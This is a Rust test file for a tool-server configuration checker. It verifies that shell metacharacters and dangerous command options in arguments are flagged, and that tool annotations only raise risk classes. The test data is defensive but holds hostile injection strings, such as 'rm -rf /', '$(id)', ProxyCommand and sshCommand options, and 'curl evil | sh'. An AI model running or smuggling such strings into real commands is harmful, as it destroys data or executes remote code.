use super::*;

#[test]
fn shell_syntax_and_command_options_in_stdio_arguments_are_flagged() {
    for bad in [
        "--root; rm -rf /",
        "$(id)",
        "a|b",
        "--upload-pack=touch /tmp/x",
        "-oProxyCommand=sh -c id",
        "core.sshCommand=sh",
    ] {
        assert!(risky_argument(bad).is_some(), "{bad}");
    }
    for fine in ["--root", "/srv/data", "--port=8080", "-v", "notes.db"] {
        assert!(risky_argument(fine).is_none(), "{fine}");
    }
    let cfg = "profile: development\nservers:\n  files:\n    command: { program: /bin/echo, args: [\"--root\", \"x; curl evil | sh\"] }\n    tools: {}\n";
    let reg = crate::load_str("t.yaml", cfg).unwrap();
    let p = check(&reg);
    assert!(
        p.iter().any(|p| p.path == "servers.files.command.args[1]"
            && p.message.contains("shell metacharacter")
            && p.location.line == 4),
        "{p:?}"
    );
}

#[test]
fn upstream_annotations_raise_a_class_and_never_lower_it() {
    use serde_json::json;
    let def = |a: serde_json::Value| json!({ "name": "t", "annotations": a });
    let raised = |c: ToolClass, a| raised_class(c, &def(a)).map(|(c, s)| (c.to_string(), s));
    assert_eq!(
        raised(ToolClass::Read, json!({ "readOnlyHint": false })),
        Some(("destructive".into(), "readOnlyHint: false".into()))
    );
    assert_eq!(
        raised(
            ToolClass::Read,
            json!({ "readOnlyHint": false, "destructiveHint": false })
        ),
        Some((
            "write".into(),
            "readOnlyHint: false, destructiveHint: false".into()
        ))
    );
    assert_eq!(
        raised(ToolClass::Write, json!({ "destructiveHint": true })),
        Some(("destructive".into(), "destructiveHint: true".into()))
    );
    // Claims of less risk, or none, change nothing.
    assert_eq!(
        raised(ToolClass::Destructive, json!({ "readOnlyHint": true })),
        None
    );
    assert_eq!(
        raised(
            ToolClass::Write,
            json!({ "readOnlyHint": false, "destructiveHint": false })
        ),
        None
    );
    assert_eq!(raised_class(ToolClass::Read, &json!({ "name": "t" })), None);
}
